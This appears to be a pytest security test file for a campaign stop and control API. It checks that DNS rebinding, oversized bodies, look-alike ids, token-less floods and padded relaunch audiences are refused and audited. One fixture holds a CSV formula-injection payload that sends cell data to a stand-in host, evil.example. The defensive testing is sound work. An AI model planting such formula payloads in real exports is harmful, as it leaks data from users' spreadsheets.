"""Hostile requests against the real control service and broker: another host's name (DNS
rebinding), bodies larger than any request needs, a reason near a megabyte, ids that print alike,
an API without tokens, a flood of refused requests, an export cell that is a formula, a relaunch
audience padded with notSent rows the campaign never had. Each attack fails with the documented
status, writes nothing it should not, the stop still works, and the audit has the attempt."""

from __future__ import annotations

import csv
import getpass
import http.client as http_client
import io
import json
from pathlib import Path
from typing import Any

import pytest

from streams.clock import now_ms
from streams.lab.harness import WorkerProcess
from streams.models import STATE_SENDING, STATE_STOPPED
from streams.serde import Serdes
from streams.settings import Settings
from streams.sink.store import NOT_SENT, Batch, OutcomeRow, open_store
from tests.controlplane.support import Api, ControlProcess, Processes, control_commands, http, wait_for
from tests.pipeline.support import announce, cli_env, records
from tests.support import run_estop

pytestmark = pytest.mark.broker

REASON = "wrong discount code"
TOKENS = {"viewer": "v" * 24, "operator": "o" * 24, "admin": "a" * 24}


def start_control(processes: Processes, settings: Settings, env: dict[str, str] | None = None) -> Api:
    control = processes.add(ControlProcess(settings, env=env))
    assert isinstance(control, ControlProcess)
    return control.start()


def raw(api: Api, method: str, path: str, body: bytes | None = None,
        headers: dict[str, str] | None = None, chunked: bool = False) -> tuple[int, dict[str, str], bytes]:
    """A request with exactly these headers (Host included) and, with ``chunked``, a body of
    undeclared length."""
    host, port = api.base.removeprefix("http://").split(":")
    connection = http_client.HTTPConnection(host, int(port), timeout=60)
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        sent = {"Host": f"127.0.0.1:{port}", "Content-Type": "application/json", **(headers or {})}
        if body is not None:
            sent["Transfer-Encoding" if chunked else "Content-Length"] = (
                "chunked" if chunked else str(len(body)))
        for name, value in sent.items():
            connection.putheader(name, value)
        connection.endheaders()
        if body is not None and chunked:
            for start in range(0, len(body), 8192):
                piece = body[start:start + 8192]
                connection.send(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
            connection.send(b"0\r\n\r\n")
        elif body is not None:
            connection.send(body)
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    except (ConnectionResetError, BrokenPipeError):
        # The service answered and closed before the whole body was sent: read what it said.
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        connection.close()


def audit_trail(settings: Settings, serdes: Serdes) -> list[dict[str, Any]]:
    return [serdes.audit.decode(m.value()) for m in records(settings, settings.topics.audit)]


def test_the_boundary_refuses_other_hosts_and_oversized_or_malformed_requests(
        settings: Settings, serdes: Serdes, processes: Processes) -> None:
    announce(settings, serdes, "promo", ["email"], 10, STATE_SENDING)
    api = start_control(processes, settings)
    stop = "/campaigns/promo/stop"
    valid = json.dumps({"reason": REASON}).encode()

    # DNS rebinding: a page of another site whose name points at this address sends its name.
    for method, path, body in (("GET", "/campaigns", None), ("POST", stop, valid)):
        status, headers, answer = raw(api, method, path, body, {"Host": "rebind.example:6066"})
        assert status == 421, answer
        assert "does not answer for host 'rebind.example'" in json.loads(answer)["error"]
        assert headers["X-Content-Type-Options"] == "nosniff"
    assert raw(api, "GET", "/health", None, {"Host": "10.1.2.3:6066"})[0] == 200  # probes
    # Bodies: declared too large (refused unread), or undeclared and too large once read.
    huge = json.dumps({"reason": "x" * 100_000}).encode()
    assert raw(api, "POST", stop, huge)[0] == 413
    status, _, answer = raw(api, "POST", stop, huge, chunked=True)
    assert status == 413 and "larger than the 65,536 bytes" in json.loads(answer)["error"]
    # A reason near the limit of a record, and ids that print alike.
    long_reason = api.stop("promo", {"reason": "r" * 1001})
    assert long_reason.status == 400 and "at most 1,000" in long_reason.json()["error"], long_reason.body
    nbsp = api.stop("promo\u00a0", {"reason": REASON})
    assert nbsp.status == 400 and "U+00A0 NO-BREAK SPACE" in nbsp.json()["error"]
    assert api.get("/campaigns/%20promo").status == 400
    relaunch = api.post("/campaigns/promo/relaunch", json.dumps({"as": "x" * 129}).encode())
    assert relaunch.status == 400 and "at most 128" in relaunch.json()["error"]
    assert control_commands(settings, serdes) == [], "a refused request wrote a stop"

    # Data answers are never sniffed or cached.
    status, headers, _ = raw(api, "GET", "/campaigns")
    assert status == 200
    assert (headers["X-Content-Type-Options"], headers["Cache-Control"]) == ("nosniff", "no-store")

    # The stop still works, and the audit has every attempt on the stop route.
    assert api.stop("promo", {"reason": REASON}).status == 202

    def stop_trail() -> list[tuple[str, str, str]]:
        return [(e["campaign_id"], e["outcome"], e["detail"].split(":")[0])
                for e in audit_trail(settings, serdes) if e["action"] == "stop"]

    wanted = [("promo", "refused", "421"), ("promo", "refused", "413"), ("promo", "rejected", "413"),
              ("promo", "rejected", "400"), ("promo\u00a0", "rejected", "400"),
              ("promo", "accepted", "")]
    wait_for(lambda: sorted(stop_trail()) == sorted(wanted), "the stop route's attempts audited")


def test_an_api_that_asks_nobody_needs_an_explicit_opt_in_on_loopback(settings: Settings) -> None:
    env = {**cli_env(settings), "ESTOP_CONTROL_PORT": "0", "ESTOP_HTTP_OPEN": "",
           "ESTOP_HTTP_TOKENS": ""}
    cases = [
        ({"ESTOP_HTTP_OPEN": "false"}, "the HTTP API needs tokens"),
        ({"ESTOP_HTTP_TOKENS": "  "}, "ESTOP_HTTP_TOKENS is set but lists no token"),
        ({"ESTOP_HTTP_OPEN": "true", "ESTOP_CONTROL_HOST": "0.0.0.0"}, "only on a loopback address"),
    ]
    for extra, words in cases:
        run_env = {k: v for k, v in {**env, **extra}.items() if v != ""}
        if "ESTOP_HTTP_TOKENS" in extra:
            run_env["ESTOP_HTTP_TOKENS"] = extra["ESTOP_HTTP_TOKENS"]
        result = run_estop("control", env=run_env, timeout_s=120)
        assert result.returncode == 2, (extra, result.stdout, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and words in lines[0], (extra, result.stderr)


def test_refused_requests_are_audited_without_a_kafka_write_per_attempt(
        settings: Settings, serdes: Serdes, processes: Processes) -> None:
    announce(settings, serdes, "flood", ["email"], 10, STATE_SENDING)
    tokens = ",".join(f"{role}:{role}:{token}" for role, token in TOKENS.items())
    api = start_control(processes, settings, {"ESTOP_HTTP_TOKENS": tokens})
    body = json.dumps({"reason": REASON}).encode()
    attempts = 300
    for _ in range(attempts):
        assert http("POST", f"{api.base}/campaigns/flood/stop", body).status == 401
    # Refusals never keep a stop waiting: the operator's goes through at once.
    accepted = http("POST", f"{api.base}/campaigns/flood/stop", body, token=TOKENS["operator"])
    assert accepted.status == 202, accepted.body

    def refused() -> list[dict[str, Any]]:
        return [e for e in audit_trail(settings, serdes) if e["outcome"] == "refused"]

    # The first at once, the other 299 as one summary when its window ends: 2 writes, not 300.
    wait_for(lambda: len(refused()) == 2, "the refusals and their summary audited")
    first, summary = refused()
    assert first["detail"] == "401: no bearer token (Authorization: Bearer <token>)"
    assert summary["detail"].startswith(f"{attempts - 1} more like this within 10s")
    assert [e["outcome"] for e in audit_trail(settings, serdes)
            if e["action"] == "stop" and e["outcome"] == "accepted"] == ["accepted"]
    assert [c["campaign_id"] for c in control_commands(settings, serdes)] == ["flood"]


def store_outcomes(settings: Settings, campaign_id: str, planned: int,
                   rows: list[tuple[str, str]]) -> None:
    """The analytics store as the sink leaves it: a campaign of ``planned`` email messages and
    notSent outcomes (message id, recipient id)."""
    store = open_store(settings)
    try:
        at = now_ms()
        store.write(Batch(
            outcomes=[OutcomeRow(m, campaign_id, "email", r, NOT_SENT, "message.notSent", "sending",
                                 "campaign stopped: wrong", "cmd-1", None, at) for m, r in rows],
            campaigns=[{"campaign_id": campaign_id, "state": STATE_STOPPED, "channels": ["email"],
                        "planned": {"email": planned}, "queued": {}, "updated_at": at, "stop": None}],
            stops=[], acks=[]))
    finally:
        store.close()


def test_exports_are_spreadsheet_safe_and_audited_and_relaunch_takes_only_planned_messages(
        settings: Settings, serdes: Serdes, processes: Processes, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    store_outcomes(settings, "sale", 3, [
        ("sale:email:0", formula), ("sale:email:1", "+4412345"), ("sale:email:2", "r2"),
        # notSent events anyone who may write notsent can make: not the campaign's messages.
        ("evil-1", "victim@example.test"), ("sale:email:05", "victim2@example.test"),
        ("sale:email:3", "victim3@example.test"), ("sale:sms:0", "victim4@example.test"),
    ])
    announce(settings, serdes, "sale", ["email"], 3, STATE_STOPPED)
    api = start_control(processes, settings)

    def cells(text: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(text)))

    export = api.get("/campaigns/sale/export.csv?status=not_sent")
    assert export.status == 200
    recipients = {row[0]: row[2] for row in cells(export.body.decode())[1:]}
    assert recipients["sale:email:0"] == "'" + formula
    assert recipients["sale:email:1"] == "'+4412345"
    assert recipients["sale:email:2"] == "r2"
    out = tmp_path / "unsent.csv"
    cli = run_estop("export", "sale", "--status", "not_sent", "--out", str(out), env=cli_env(settings))
    assert cli.returncode == 0, cli.stderr
    assert out.read_bytes() == export.body, "`estop export` and the console differ"

    relaunched = api.post("/campaigns/sale/relaunch", json.dumps({"as": "sale-again"}).encode())
    assert relaunched.status == 202, relaunched.body
    assert relaunched.json()["recipients"] == 3

    def state() -> dict[str, Any]:
        reply = api.get(relaunched.json()["status_url"])
        assert reply.status == 200, reply.body
        answer: dict[str, Any] = reply.json()
        return answer

    wait_for(lambda: state()["state"] != "queueing", "the relaunch to end")
    assert state()["state"] == "done", state()
    queued = [serdes.send_request.decode(m.value())["recipient_id"]
              for m in records(settings, settings.topics.send_requests("email"))]
    assert sorted(queued) == sorted([formula, "+4412345", "r2"])
    assert records(settings, settings.topics.send_requests("sms")) == []

    def trail() -> list[tuple[str, str, str]]:
        return [(e["action"], e["outcome"], e["actor"]) for e in audit_trail(settings, serdes)
                if e["action"] in ("export", "relaunch")]

    cli_user = getpass.getuser()  # the command line's identity on a cluster without SASL
    wait_for(lambda: sorted(trail()) == sorted([("export", "accepted", "anonymous"),
                                                ("export", "accepted", cli_user),
                                                ("relaunch", "accepted", "anonymous")]),
             "the exports and the relaunch audited under their callers")


def test_the_audit_is_read_a_page_at_a_time(settings: Settings, serdes: Serdes,
                                            processes: Processes) -> None:
    sink = processes.add(WorkerProcess(settings, ["--role", "sink"], env={"ESTOP_METRICS_PORT": "0"}))
    sink.wait_ready()
    for index in range(5):
        announce(settings, serdes, f"paged-{index}", ["email"], 1, STATE_SENDING)
    api = start_control(processes, settings)
    for index in range(5):
        assert api.stop(f"paged-{index}", {"reason": REASON}).status == 202

    def page(query: str) -> dict[str, Any]:
        reply = api.get(f"/audit?{query}")
        assert reply.status == 200, reply.body
        answer: dict[str, Any] = reply.json()
        return answer

    wait_for(lambda: len(page("limit=1000")["audit"]) == 5, "five audit events stored")
    newest = page("limit=2")
    assert [e["campaign_id"] for e in newest["audit"]] == ["paged-3", "paged-4"]
    older = page(f"limit=2&before={newest['next']}")
    assert [e["campaign_id"] for e in older["audit"]] == ["paged-1", "paged-2"]
    oldest = page(f"limit=2&before={older['next']}")
    assert [e["campaign_id"] for e in oldest["audit"]] == ["paged-0"] and oldest["next"] is None
    assert api.get("/audit?limit=100000").status == 400
    assert api.get("/audit?before=yesterday").status == 400
